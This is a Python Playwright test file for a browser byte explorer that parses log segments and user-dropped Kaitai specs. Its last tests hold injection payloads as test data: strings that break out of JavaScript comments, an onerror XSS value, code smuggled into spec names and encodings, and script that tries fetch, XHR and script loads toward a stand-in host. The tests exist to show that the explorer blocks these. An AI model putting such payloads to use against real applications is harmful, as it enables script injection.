"""The byte explorer in a real browser, from a disk: what it shows of the samples, of a large file, of specs that are
dropped, and that it says of damage what `segspec verify` says."""

from __future__ import annotations

import hashlib
import json
import re
import struct
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect
from segspec_docs.explorer import Explorer

from tests import needs
from tests.cli.conftest import Run, segspec
from tests.conftest import ROOT
from tests.docs.browsing import AXE, COLOURS, EVERYTHING, SERIOUS, browser
from tests.docs.conftest import scan
from tests.helpers.sweeps import ALL, some

__all__ = ["segspec"]

pytestmark = pytest.mark.xdist_group("docs")

SOUND = [
    "osiris/epochs/00000000000000000064.segment",
    "osiris/sub_batches/00000000000000000000.segment",
    "osiris/epochs/00000000000000000064.index",
    "tank/compacted/1-3147_1795189982.ilog",
    "tank/sparse/1000_1795189938.log",
    "tank/sparse/1000.index",
    "durable_log/multi_segment/segment_00000000000000000031.log",
    "durable_log/multi_segment/segment_00000000000000000031.idx",
    "mojo/mixed_fields/1526919030474-0",
    "ffwd/multi_segment/0000000000000021",
    "kafka/none-0/00000000000000000000.log",
    "kafka/snappy-0/00000000000000000000.log",
    "kafka/v1_none-0/00000000000000000000.log",
    "kafka/none-0/00000000000000000000.timeindex",
]
BROKEN = [
    "osiris/torn_tail/00000000000000000839.segment",
    "tank/disk_full/1_1795190426.log",
    "durable_log/torn_payload_reopened/segment_00000000000000000000.log",
    "mojo/torn_tail/w1526919030474-0",
    "ffwd/torn_blob/0000000000000000",
    "ffwd/overflow_quirk/0000000000000000",
]
LARGE = 32 << 20


def place(sample: str) -> Path:
    log, _, file = sample.rpartition("/")
    return next(folder for name, _, folder in Explorer(ROOT, {}).logs() if name == log) / file


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    needs.npm("kaitai-struct")
    with browser() as started:
        yield started


@pytest.fixture(scope="module")
def tab(chromium: Browser, site: Path) -> tuple[Page, list[str]]:
    """A page for all tests, as a browser starts processes for each, and what went wrong in it: its errors, and its
    requests of anything but files of the site."""
    wrong: list[str] = []
    page = chromium.new_page(viewport={"width": 1600, "height": 1000})
    page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("request", lambda asked: None if ours(asked.url, site) else wrong.append(asked.url))
    return page, wrong


@pytest.fixture
def page(tab: tuple[Page, list[str]]) -> Iterator[Page]:
    """An empty page, in which nothing may go wrong."""
    page, wrong = tab
    wrong.clear()
    yield page
    page.goto("about:blank")
    assert wrong == []


def ours(url: str, site: Path) -> bool:
    return url.startswith((site.as_uri(), "blob:", "about:"))


def opened(page: Page, site: Path, sample: str, at: int | None = None) -> None:
    """The explorer with a sample that it has read to its end."""
    place = "" if at is None else f"#@{at}"
    page.goto(f"{(site / 'explorer.html').as_uri()}?sample={sample}{place}")
    page.wait_for_function("explorer.isRead")


def read(page: Page, name: str) -> None:
    """Waits for the file of this name to be read to its end."""
    page.wait_for_function(f"explorer.isRead && explorer.blob?.name === {json.dumps(name)}", timeout=60_000)


def frames(page: Page) -> list[list[int]]:
    both = "[explorer.frames.starts[at], explorer.frames.ends[at]]"
    found: list[list[int]] = page.evaluate(f"Array.from({{ length: explorer.frames.length }}, (_, at) => {both})")
    return found


def marked(page: Page) -> list[int]:
    found: list[int] = page.evaluate("explorer.hex.marked")
    return found


def selected(page: Page) -> Locator:
    return page.locator("#tree [aria-selected=true]")


def place_of_byte(page: Page, at: int) -> tuple[float, float]:
    """Where byte `at` is on the screen, in the columns of sixteen bytes."""
    codes = page.locator(f"#bytes [data-row='{at // 16}'] .hex")
    box, letters = codes.bounding_box(), len(codes.inner_text())
    assert box is not None
    column = at % 16
    return box["x"] + (3 * column + (column >= 8) + 1) / letters * box["width"], box["y"] + box["height"] / 2


def click_byte(page: Page, at: int) -> None:
    page.mouse.click(*place_of_byte(page, at))


def verified(segspec: Run, path: Path, *options: str) -> list[dict[str, Any]]:
    """What `segspec verify` finds wrong in one file of a log."""
    found = segspec("verify", path.parent, "-o", "json", *options).json
    return [one for one in found if one["path"] == str(path) and one["severity"] == "error"]


@pytest.mark.parametrize("sample", some(SOUND, 8))
def test_the_parts_of_a_sound_file_are_all_of_its_bytes(page: Page, site: Path, sample: str) -> None:
    opened(page, site, sample)
    found = frames(page)
    assert [start for start, _ in found] == [0, *(end for _, end in found[:-1])]
    assert found[-1][1] == place(sample).stat().st_size
    expect(page.locator("#damage li")).to_have_count(0)
    expect(page.locator("#tree .bad")).to_have_count(0)


@pytest.mark.parametrize("sample", BROKEN)
def test_damage_is_where_verify_has_it_with_its_code_and_its_rule(
    page: Page, site: Path, segspec: Run, sample: str
) -> None:
    opened(page, site, sample)
    findings = verified(segspec, place(sample))
    shown = page.locator("#damage li").all()
    assert [(one.get_attribute("data-at"), one.get_attribute("data-code")) for one in shown] == [
        (found["position"], found["code"]) for found in findings
    ]
    for one, found in zip(shown, findings, strict=True):
        links = {link.inner_text(): link.get_attribute("href") or "" for link in one.locator("a").all()}
        assert set(links) == {found["code"], *([found["rule"]] if "rule" in found else [])}
        for target in links.values():
            address, anchor = target.split("#")
            assert anchor in scan(site / address).ids, target
    one = shown[0]
    one.get_by_role("button").click()
    expect(page.locator("#details .fault").first).to_be_visible()
    expect(page.locator("#bytes .bad").first).to_be_visible()
    expect(page.locator("#tree .bad").first).to_be_visible()


@pytest.mark.parametrize(
    ("format", "sample", "at"),
    [
        ("osiris", "osiris/epochs/00000000000000000064.segment", 5050),
        ("durable_log", "durable_log/multi_segment/segment_00000000000000000031.log", 2000),
        ("kafka", "kafka/none-0/00000000000000000000.log", 500),
        ("kafka", "kafka/v1_none-0/00000000000000000000.log", 500),
        ("kafka", "kafka/none-0/00000000000000000000.log", 1075),
    ],
)
def test_a_flipped_byte_is_where_verify_finds_it_and_reading_goes_on(
    page: Page, site: Path, segspec: Run, tmp_path: Path, format: str, sample: str, at: int
) -> None:
    content = bytearray(place(sample).read_bytes())
    content[at] ^= 0x55
    path = tmp_path / "topic-0" / place(sample).name
    path.parent.mkdir()
    path.write_bytes(content)
    page.goto((site / "explorer.html").as_uri())
    dropped(page, (path.name, bytes(content)))
    read(page, path.name)
    shown = page.locator("#damage li").all()
    findings = verified(segspec, path, "--format", format)
    assert findings
    assert [(one.get_attribute("data-at"), one.get_attribute("data-code")) for one in shown] == [
        (found["position"], found["code"]) for found in findings
    ]
    assert [one.locator("a.rule").inner_text() for one in shown] == [found["rule"] for found in findings]
    assert frames(page)[-1][1] == len(content)


def test_after_damage_reading_goes_on_with_the_record_that_verify_goes_on_with(page: Page, site: Path) -> None:
    opened(page, site, BROKEN[2])
    starts = [start for start, _ in frames(page)]
    assert starts[starts.index(2480) + 1] == 2544


def test_a_field_marks_its_bytes_and_a_byte_finds_its_field(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    page.locator("#tree .row", has_text="num_records").click()
    assert marked(page) == [12, 16]
    expect(page.locator("#bytes .hex .marked")).to_have_text(["00", "00 00 01"])
    expect(page.locator("#details h2")).to_have_text("header.num_records")
    click_byte(page, 40)
    expect(selected(page)).to_contain_text("data_crc")
    assert marked(page) == [40, 44]
    assert page.url.endswith("#@40")


def test_bits_of_one_byte_are_fields_of_it(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    for name, value in (("magic", "5"), ("version", "0")):
        page.locator("#tree .row", has_text=name).click()
        assert marked(page) == [8, 9]
        expect(page.locator("#details .value")).to_have_text(value)


def test_it_opens_with_a_broken_stream_at_its_damage(page: Page, site: Path) -> None:
    page.goto((site / "explorer.html").as_uri())
    page.wait_for_function("explorer.isRead && explorer.hex.marked[0] > 0")
    expect(page.locator("#sample option:checked")).to_have_text(
        "A stream whose broker was killed while it wrote: segment 839"
    )
    expect(page.locator("#damage .advice")).to_contain_text("segspec recover LOG -o OUT")
    expect(selected(page)).to_contain_text("needs 175 bytes, and 132 are left")
    expect(page.locator("#bytes .cursor").first).to_be_visible()


def test_a_time_has_its_date_its_type_and_its_hexadecimal(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    row = page.locator("#tree .row", has_text="timestamp").first
    expect(row).to_contain_text("UTC (ms)")
    row.click()
    value = int(page.locator("#details .value").first.inner_text())
    when = datetime.fromtimestamp(value / 1000, UTC).strftime("%Y-%m-%d %H:%M:%S")
    expect(page.locator("#details .type")).to_have_text("s8be")
    expect(page.locator("#details .more")).to_contain_text(f"{value:#x} · {when}")
    cells = page.locator("#converter tr", has_text="s8").locator("td")
    expect(cells.nth(1)).to_have_text(f"{value:,}")
    expect(page.locator("#converter tr", has_text="date").locator("td").nth(1)).to_contain_text(when)


def test_a_position_is_taken_as_people_write_it(page: Page, site: Path) -> None:
    opened(page, site, BROKEN[0], at=0)
    for text in ("19,833", "0x4d79", " 19833 "):
        page.evaluate("explorer.goTo(0)")
        page.wait_for_function("explorer.hex.cursor === 0")
        page.fill("#at", text)
        page.press("#at", "Enter")
        page.wait_for_function("explorer.hex.cursor === 19833")
    page.check("#hex-offsets")
    expect(page.locator("#bytes .off", has_text="00004d70")).to_have_count(1)


def test_bytes_and_text_are_found_forwards_and_backwards_around_the_end(page: Page, site: Path) -> None:
    opened(page, site, BROKEN[0], at=0)
    content = place(BROKEN[0]).read_bytes()
    first, last = content.index(b"0000001196"), content.rindex(b"qqq")
    page.keyboard.press("f")
    page.keyboard.type("0000001196")
    page.keyboard.press("Enter")
    page.wait_for_function(f"explorer.hex.cursor === {first + 9}")
    assert page.evaluate("explorer.hex.selection") == [first, first + 10]
    expect(page.locator("#status")).to_have_text(f"Found at byte {first:,}.")
    page.fill("#text", "0x717171")
    page.evaluate("explorer.goTo(0)")
    page.press("#text", "Shift+Enter")
    page.wait_for_function(f"explorer.hex.cursor === {last + 2}")
    expect(page.locator("#status")).to_contain_text("past the end of the file")
    page.fill("#text", "nowhere in it")
    page.press("#text", "Enter")
    expect(page.locator("#status")).to_have_text("nowhere in it is not in the file.")


def test_what_lies_across_two_pieces_of_a_file_is_found(page: Page, site: Path, tmp_path: Path) -> None:
    path = tmp_path / "x.log"
    content = bytearray(3 << 20)
    content[(1 << 20) - 2 : (1 << 20) + 2] = b"over"
    path.write_bytes(content)
    page.goto((site / "explorer.html").as_uri())
    page.select_option("#format", "durable_log")
    page.set_input_files("#file", path)
    page.wait_for_function("explorer.isRead && explorer.blob.name === 'x.log'")
    for key in ("Enter", "Shift+Enter", "Enter"):
        page.fill("#text", "over")
        page.press("#text", key)
        page.wait_for_function(f"explorer.hex.range?.[0] === {(1 << 20) - 2}")
        page.evaluate("explorer.goTo(2 << 20)")


def test_a_range_is_picked_with_the_keyboard_copied_and_saved(page: Page, site: Path) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    opened(page, site, SOUND[0], at=8)
    click_byte(page, 40)
    for _ in range(3):
        page.keyboard.press("Shift+ArrowRight")
    assert page.evaluate("explorer.hex.selection") == [40, 44]
    expect(page.locator("#status")).to_have_text("4 bytes picked, 40 to 43.")
    page.keyboard.press("Control+c")
    expect(page.locator("#status")).to_have_text("4 bytes copied as hexadecimal.")
    content = place(SOUND[0]).read_bytes()
    assert page.evaluate("navigator.clipboard.readText()") == content[40:44].hex()
    with page.expect_download() as taken:
        page.click("#save-bytes")
    assert taken.value.path().read_bytes() == content[40:44]
    assert taken.value.suggested_filename == f"{place(SOUND[0]).name}.40-44.bin"
    page.locator("#tree .row", has_text="data_crc").click()
    with page.expect_download() as taken:
        page.click("#save-json")
    saved = json.loads(taken.value.path().read_text(encoding="utf-8"))
    assert (saved["name"], saved["at"], saved["size"]) == ("data_crc", 40, 4)
    assert int(saved["value"]) == int.from_bytes(content[40:44], "big")


def test_bytes_are_picked_with_the_pointer(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0], at=8)
    page.mouse.move(*place_of_byte(page, 20))
    page.mouse.down()
    page.mouse.move(*place_of_byte(page, 45))
    page.mouse.up()
    page.wait_for_function("explorer.hex.range?.join() === '20,46'")


def test_a_link_to_a_byte_of_a_file_names_the_file_by_its_digest(page: Page, site: Path) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto((site / "explorer.html").as_uri())
    file = place(SOUND[0])
    dropped(page, (file.name, file.read_bytes()))
    page.wait_for_function(f"explorer.isRead && explorer.blob.name === '{file.name}'")
    page.evaluate("explorer.goTo(40)")
    page.click("#copy-link")
    expect(page.locator("#status")).to_have_text("The link to this byte is copied.")
    link = page.evaluate("navigator.clipboard.readText()")
    digest = hashlib.sha256(file.read_bytes()).hexdigest()
    assert link == f"{(site / 'explorer.html').as_uri()}#@40;sha256={digest}"
    page.goto("about:blank")
    page.goto(link)
    expect(page.locator("#status")).to_contain_text(digest)
    dropped(page, (file.name, file.read_bytes()[:-1]))
    expect(page.locator("#status")).to_contain_text("another file than the link is to")
    dropped(page, (file.name, file.read_bytes()))
    page.wait_for_function("explorer.isRead && explorer.hex.cursor === 40")
    expect(page.locator("#status")).not_to_contain_text("another file")


def test_keys_go_from_damage_to_damage(page: Page, site: Path) -> None:
    content = bytearray(place("kafka/none-0/00000000000000000000.log").read_bytes())
    for at in (100, 1000):
        content[at] ^= 0x55
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("00000000000000000000.log", bytes(content)))
    page.wait_for_function("explorer.isRead && explorer.damage.length === 2")
    places = page.evaluate("explorer.damage.map((one) => one.place)")
    assert places[0] < places[1]
    expect(page.locator("#damage li").first).to_contain_text("the crc32c of the bytes is")
    expect(page.locator("#damage li").first).to_contain_text("body.crc")
    page.evaluate("explorer.goTo(400)")
    for key, at in (("n", places[1]), ("n", places[0]), ("N", places[1]), ("N", places[0])):
        page.keyboard.press(key)
        page.wait_for_function(f"explorer.hex.cursor === {at}")


def test_a_link_leads_to_the_deepest_field_that_holds_its_byte(page: Page, site: Path) -> None:
    opened(page, site, "osiris/amqp/00000000000000002506.segment", at=330)
    expect(page.locator("#details .value")).to_have_text('"plain_amqp091"')


@pytest.mark.parametrize(
    ("sample", "at"), [("mojo/mixed_fields/1526919030474-0", 40), ("osiris/amqp/00000000000000002506.segment", 330)]
)
def test_the_link_of_a_field_leads_to_its_place_on_the_formats_page(
    page: Page, site: Path, sample: str, at: int
) -> None:
    opened(page, site, sample, at=at)
    address, anchor = (page.locator("#details a").first.get_attribute("href") or "").split("#")
    assert anchor in scan(site / address).ids


def test_a_file_that_is_shown_has_no_fault_that_axe_knows(page: Page, site: Path) -> None:
    needs.npm("axe-core")
    opened(page, site, BROKEN[2], at=2490)
    page.evaluate(AXE.read_text(encoding="utf-8"))
    assert page.evaluate(SERIOUS.replace("document", "'#explorer'").replace("RULES", EVERYTHING)) == []
    page.emulate_media(color_scheme="dark")
    dark = page.evaluate(SERIOUS.replace("document", "'#explorer'").replace("RULES", COLOURS))
    page.emulate_media(color_scheme="light")
    assert dark == []


def test_keys_move_through_frames_and_fields(page: Page, site: Path) -> None:
    opened(page, site, SOUND[0])
    tree = page.get_by_role("tree")
    tree.focus()
    page.keyboard.press("End")
    expect(selected(page)).to_contain_text("chunk 157")
    expect(selected(page)).to_have_attribute("aria-expanded", "false")
    page.keyboard.press("ArrowRight")
    expect(selected(page)).to_have_attribute("aria-expanded", "true")
    page.keyboard.press("ArrowRight")
    expect(selected(page)).to_contain_text("header")
    assert tree.get_attribute("aria-activedescendant") == selected(page).get_attribute("id")
    tree.evaluate("(box) => box.scrollTo(0, 0)")
    expect(selected(page)).to_have_count(0)
    assert tree.get_attribute("aria-activedescendant") is None
    page.keyboard.press("ArrowLeft")
    expect(selected(page)).to_contain_text("chunk 157")
    page.keyboard.press("Enter")
    expect(selected(page)).to_have_attribute("aria-expanded", "false")
    page.keyboard.press("Home")
    expect(selected(page)).to_contain_text("header")
    page.keyboard.press("g")
    page.keyboard.type("0x28")
    page.keyboard.press("Enter")
    expect(selected(page)).to_contain_text("data_crc")
    page.get_by_role("grid").focus()
    page.keyboard.press("ArrowDown")
    assert page.url.endswith("#@56")


def test_what_was_compressed_is_opened_within_its_field(page: Page, site: Path) -> None:
    opened(page, site, "tank/sparse/1000_1795189938.log", at=4200)
    expect(page.locator("#tree .row", has_text="opened:")).to_have_count(1)
    page.keyboard.press("Tab")
    page.locator("#tree .row", has_text="message_set").locator(".twist").click()
    expect(page.locator("#tree .place", has_text="within").first).to_be_visible()


@pytest.mark.parametrize("codec", ["gzip", "lz4", "snappy", "zstd"])
def test_batches_of_every_codec_are_opened(page: Page, site: Path, codec: str) -> None:
    page.goto((site / "explorer.html").as_uri())
    file = ROOT / f"tests/data/kafka/4.1/data/{codec}-0/00000000000000000000.log"
    dropped(page, (file.name, file.read_bytes()))
    read(page, file.name)
    page.evaluate("explorer.goTo(70)")
    expect(page.locator("#tree .row", has_text="opened:")).to_have_count(1)
    records = page.locator("#tree .row", has_text="opened:")
    expect(records).not_to_contain_text("cannot be opened")
    page.wait_for_function("explorer.frames.open.get(0)")
    opened_there = page.evaluate(
        """() => {
          const find = (nodes) => nodes.flatMap((one) => [one, ...find(one.children ?? [])]);
          return find(explorer.frames.open.get(0).nodes).filter((one) => one.name === "value").map((one) => one.value);
        }"""
    )
    assert len([value for value in opened_there if value is not None]) >= 1


def test_sub_batches_of_every_codec_are_opened(page: Page, site: Path) -> None:
    opened(page, site, SOUND[1], at=8)
    notes = page.evaluate(
        """async () => {
          const found = [];
          const find = (nodes) => nodes.flatMap((one) => [one, ...find(one.children ?? [])]);
          for (let at = 1; at < explorer.frames.length; at += 1) {
            await explorer.fields(at);
            found.push(...find(explorer.frames.open.get(at).nodes).filter((one) => one.name === "body" && one.note));
          }
          return found.map((one) => one.note);
        }"""
    )
    assert len(notes) >= 4
    assert all(note.startswith("opened: ") for note in notes), notes


def test_a_large_file_is_shown_while_it_is_read_and_never_drawn_as_a_whole(
    page: Page, site: Path, tmp_path: Path
) -> None:
    path = tmp_path / "segment_00000000000000000000.log"
    write_large(path)
    page.goto((site / "explorer.html").as_uri())
    page.set_input_files("#file", path)
    page.wait_for_function(f"explorer.frames.length > 0 && explorer.blob.name === {json.dumps(path.name)}")
    answered_while_reading = page.evaluate("explorer.goTo(0).then(() => !explorer.isRead)")
    page.wait_for_function("explorer.isRead", timeout=120_000)
    assert answered_while_reading
    assert frames(page)[-1][1] == path.stat().st_size
    page.evaluate(f"explorer.goTo({path.stat().st_size - 1})")
    expect(page.locator("#details h2")).to_have_text("payload")
    expect(page.locator(f"#byte-{path.stat().st_size - 1}")).to_be_visible()
    assert page.locator("#explorer *").count() < 10_000


def write_large(path: Path) -> None:
    """A log of so many records of 1 KiB."""
    payload = bytes(range(256)) * 4
    with path.open("wb") as out:
        for offset in range(LARGE // 1024):
            header = struct.pack("<4sBBHQII", b"GOLD", 1, 0, 0, offset, len(payload), zlib.crc32(payload))
            out.write(header + payload)


SPEC = """
meta: {id: outer, endian: le, imports: [inner]}
seq:
  - {id: kind, type: b4, doc: What follows.}
  - {id: flags, type: b4}
  - {id: items, type: inner, repeat: expr, repeat-expr: 2}
"""
INNER = """
meta: {id: inner, endian: le}
seq:
  - {id: size, type: u2, valid: {max: 9}}
  - {id: text, type: str, encoding: ASCII, size: size}
"""


def dropped(page: Page, *files: tuple[str, bytes]) -> None:
    """Files that are dropped on the explorer at once."""
    given = page.evaluate_handle(
        """files => files.reduce((all, [name, hex]) => {
          const bytes = Uint8Array.from(hex.match(/../g) ?? [], (two) => parseInt(two, 16));
          return all.items.add(new File([bytes], name)), all;
        }, new DataTransfer())""",
        [[name, content.hex()] for name, content in files],
    )
    page.dispatch_event("#explorer", "drop", {"dataTransfer": given})


def test_a_spec_that_is_dropped_with_what_it_imports_reads_the_file_that_comes_with_it(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    content = b"\x51\x02\x00ab\x03\x00cde"
    dropped(page, ("outer.ksy", SPEC.encode()), ("inner.ksy", INNER.encode()), ("x.bin", content))
    read(page, "x.bin")
    assert frames(page) == [[0, 1], [0, 1], [1, 5], [5, 10]]
    page.evaluate("explorer.goTo(8)")
    expect(page.locator("#details .value")).to_have_text('"cde"')
    expect(page.locator("#damage li")).to_have_count(0)


WITH_INSTANCES = """
meta: {id: pointing, endian: le}
seq:
  - {id: place, type: u1, doc: Where the text is.}
instances:
  text: {pos: place, type: str, encoding: ASCII, size: 3}
  twice: {value: place * 2}
types: {}
"""


def test_what_a_dropped_spec_has_beside_its_sequence_is_found_at_its_place(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("pointing.ksy", WITH_INSTANCES.encode()), ("x.bin", b"\x04\x00\x00\x00abc"))
    read(page, "x.bin")
    assert frames(page) == [[0, 1], [4, 7]]
    page.evaluate("explorer.goTo(5)")
    expect(page.locator("#details h2")).to_have_text("text")
    expect(page.locator("#details .value")).to_have_text('"abc"')


def test_a_value_that_a_dropped_spec_refuses_is_damage_at_its_field(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("outer.ksy", SPEC.encode()), ("inner.ksy", INNER.encode()))
    expect(page.locator("#status")).to_have_text("outer.ksy, inner.ksy: drop a file that it describes.", timeout=60_000)
    dropped(page, ("x.bin", b"\x51\x02\x00ab\xff\x00cde"))
    expect(page.locator("#damage li")).to_contain_text("is 255, and at most 9 is due")
    page.wait_for_function("explorer.hex.marked[0] === 5")
    assert marked(page) == [5, 7]


def test_all_imports_that_a_dropped_spec_misses_are_named_at_once(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("outer.ksy", SPEC.replace("[inner]", "[inner, /common/other]").encode()))
    expect(page.locator("#status")).to_contain_text("drop inner.ksy, other.ksy with it", timeout=60_000)


TITLED = "meta: {id: first, title: The first, file-extension: one}\nseq: [{id: size, type: u1}]"
OTHER = "meta: {id: second, file-extension: two}\nseq: [{id: whole, type: u2le}]"


def test_of_several_dropped_specs_that_of_the_extension_is_taken_and_others_can_be_chosen(
    page: Page, site: Path
) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("first.ksy", TITLED.encode()), ("second.ksy", OTHER.encode()))
    expect(page.locator("#status")).to_contain_text("2 specs: choose one", timeout=60_000)
    dropped(page, ("first.ksy", TITLED.encode()), ("second.ksy", OTHER.encode()), ("x.two", b"\x01\x02"))
    read(page, "x.two")
    expect(page.locator("#status")).to_contain_text("x.two: second, 2 bytes, 1 part")
    assert frames(page) == [[0, 2]]
    expect(page.locator("#tree .row")).to_have_count(1)
    expect(page.locator("#tree .row")).to_contain_text("513")
    page.select_option("#format", label="first: The first")
    expect(page.locator("#status")).to_contain_text("x.two: first, 2 bytes, 1 part", timeout=60_000)
    assert frames(page) == [[0, 1]]


def test_a_file_of_no_known_format_asks_for_one(page: Page, site: Path) -> None:
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("notes.txt", b"hello"))
    expect(page.locator("#status")).to_contain_text("choose one")
    page.select_option("#format", "durable_log")
    expect(page.locator("#damage li")).to_have_attribute("data-code", "bad-magic")


CODE = "*/ 0, globalThis.RAN='doc', /*"
LINES = "\\n*/\\nglobalThis.RAN = 'lines';\\n/*\\u2028*/ globalThis.RAN = 2; //"
DOCS_AS_CODE = f"""
meta:
  id: doc_is_code
  title: "{CODE}"
  application: "{CODE}"
  license: "{CODE}"
  endian: le
doc: "{CODE}"
doc-ref: ["{CODE}", "{LINES}"]
-orig-id: "{CODE}"
seq:
  - {{id: first, type: u1, doc: "{CODE}", doc-ref: "{CODE}", -orig-id: "{CODE}", enum: kind}}
  - {{id: doc, type: 'title(2)', doc: "{LINES}"}}
  - {{id: word, type: str, size: 2, encoding: ASCII, doc: "<img src=x onerror=globalThis.RAN=1> `<b>`"}}
instances:
  twice: {{value: first.to_i * 2, doc: "{CODE}", doc-ref: "{CODE}"}}
types:
  title:
    meta: {{title: "{CODE}"}}
    doc: "{CODE}"
    params:
      - {{id: given, type: u1, doc: "{CODE}", doc-ref: "{CODE}"}}
    seq:
      - {{id: last, type: u1, doc: "{CODE}"}}
enums:
  kind:
    1: {{id: one, doc: "{CODE}", doc-ref: "{LINES}", -orig-id: "{CODE}"}}
    2: two
"""


def ran_in(page: Page) -> list[object]:
    """What code of a stranger's left behind in the page and in its workers; None where nothing ran."""
    return [page.evaluate("globalThis.RAN ?? null"), *(w.evaluate("globalThis.RAN ?? null") for w in page.workers)]


def test_docs_that_try_to_be_code_are_shown_as_text_and_run_nowhere(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    content = b"\x01\x02<b"
    dropped(page, ("doc_is_code.ksy", DOCS_AS_CODE.encode()), ("x.bin", content))
    read(page, "x.bin")
    expect(page.locator("#damage li")).to_have_count(0)
    assert len(page.workers) == 1
    for at, path, doc in (
        (0, "first", CODE),
        (1, "last", CODE),
        (2, "word", "<img src=x onerror=globalThis.RAN=1> <b>"),
    ):
        page.evaluate(f"explorer.goTo({at})")
        expect(page.locator("#details h2")).to_have_text(path)
        expect(page.locator("#details .doc")).to_have_text(doc)
    expect(page.locator("#details img")).to_have_count(0)
    assert set(ran_in(page)) == {None}


REFUSED = [
    ('meta: {id: a}\nseq: [{id: "x=globalThis.RAN=1;x", type: u1}]', "no name"),
    ('meta: {id: "a*/globalThis.RAN=1/*"}\nseq: [{id: x, type: u1}]', "no name"),
    ('meta: {id: a}\nenums: {e: {1: "a:1};globalThis.RAN=1;({b"}}', "no name"),
    ('meta: {id: a}\nenums: {e: {"1:1};globalThis.RAN=1;({2": b}}', "no number"),
    ('meta: {id: a}\nenums: {"e = globalThis.RAN = 1": {1: b}}', "no name"),
    ('meta: {id: a}\ntypes: {"t(){}globalThis.RAN=1;//": {seq: [{id: x, type: u1}]}}', "no name"),
    ('meta: {id: a}\ninstances: {"x(){};globalThis.RAN=1;//": {value: 1}}', "no name"),
    ('meta: {id: a}\nparams: [{id: "x=globalThis.RAN=1", type: u1}]', "no name"),
    ('meta: {id: a}\nseq: [{id: x, type: str, size: 1, encoding: "A\\"+(globalThis.RAN=1)+\\""}]', "no encoding"),
    ('meta: {id: a, encoding: "A\\"+(globalThis.RAN=1)+\\""}\nseq: [{id: x, type: str, size: 1}]', "no encoding"),
    (
        'meta: {id: a}\ninstances: {x: {value: "[65].as<bytes>.to_s(\'A\\"+(globalThis.RAN=1)+\\"\')"}}',
        "name of an enc",
    ),
    ("meta: {id: a, imports: [\"b');globalThis.RAN=1;('\"]}\nseq: [{id: x, type: u1}]", "no import"),
    ("meta: {id: a}\nseq: [{id: x, size: 1, process: \"fetch('x')\"}]", "no process"),
]


def test_a_name_that_tries_to_be_code_is_refused(page: Page, site: Path) -> None:
    needs.npm("kaitai-struct-compiler")
    page.goto((site / "explorer.html").as_uri())
    of_each_kind = {said: spec for spec, said in REFUSED}
    for spec, said in REFUSED if ALL else [(spec, said) for said, spec in of_each_kind.items()]:
        page.evaluate("document.querySelector('#status').textContent = ''")
        dropped(page, ("a.ksy", spec.encode()))
        expect(page.locator("#status")).to_contain_text(said, timeout=60_000)
        assert set(ran_in(page)) == {None}, spec


SPEAKS = """
globalThis.RAN = [];
globalThis.TRIED = [];
const tried = (name, step) => {
  try { TRIED.push(Promise.resolve(step()).then(() => RAN.push(name), () => 0)); } catch { /* not allowed */ }
};
tried("fetch", () => fetch("http://HOST/?x", { mode: "no-cors" }));
tried("own", () => fetch(location.href));
tried("xhr", () => {
  const asked = new XMLHttpRequest();
  asked.open("GET", "http://HOST/", false);
  asked.send();
});
if (globalThis.importScripts) tried("import", () => importScripts("http://HOST/x.js"));
if (globalThis.document) {
  const there = (tag, more) => new Promise((go, fail) => {
    const element = Object.assign(document.createElement(tag), more, { onload: go, onerror: fail });
    document.body.append(element);
  });
  tried("img", () => there("img", { src: "http://HOST/x.png" }));
  tried("script", () => there("script", { src: "http://HOST/x.js" }));
  const inline = { text: "RAN.push('inline')" };
  document.body.append(Object.assign(document.createElement("script"), inline));
}
"""


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine that lets everybody ask, and what it was asked for."""
    asked: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/html")
            self.end_headers()

        def log_message(self, *words: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()
        thread.join()


def test_code_that_would_get_in_speaks_to_nobody(
    chromium: Browser, site: Path, stranger: tuple[str, list[str]]
) -> None:
    needs.npm("kaitai-struct-compiler")
    host, asked = stranger
    code = SPEAKS.replace("HOST", host)
    context = chromium.new_context()
    page = context.new_page()
    # Without the policy it would.
    page.goto(f"http://{host}/page")
    page.evaluate(f"{{ {code} }}")
    page.wait_for_function("RAN.includes('fetch') && RAN.includes('inline')")
    page.evaluate("Promise.allSettled(TRIED)")
    assert {"/x.js", "/x.png"} < set(asked)
    asked.clear()
    page.goto((site / "explorer.html").as_uri())
    dropped(page, ("pointing.ksy", WITH_INSTANCES.encode()))
    page.wait_for_function("explorer.own", timeout=60_000)
    # As if a text of the spec had come through to the parsers.
    page.evaluate("code => { for (const name in explorer.own.modules) explorer.own.modules[name] += code; }", code)
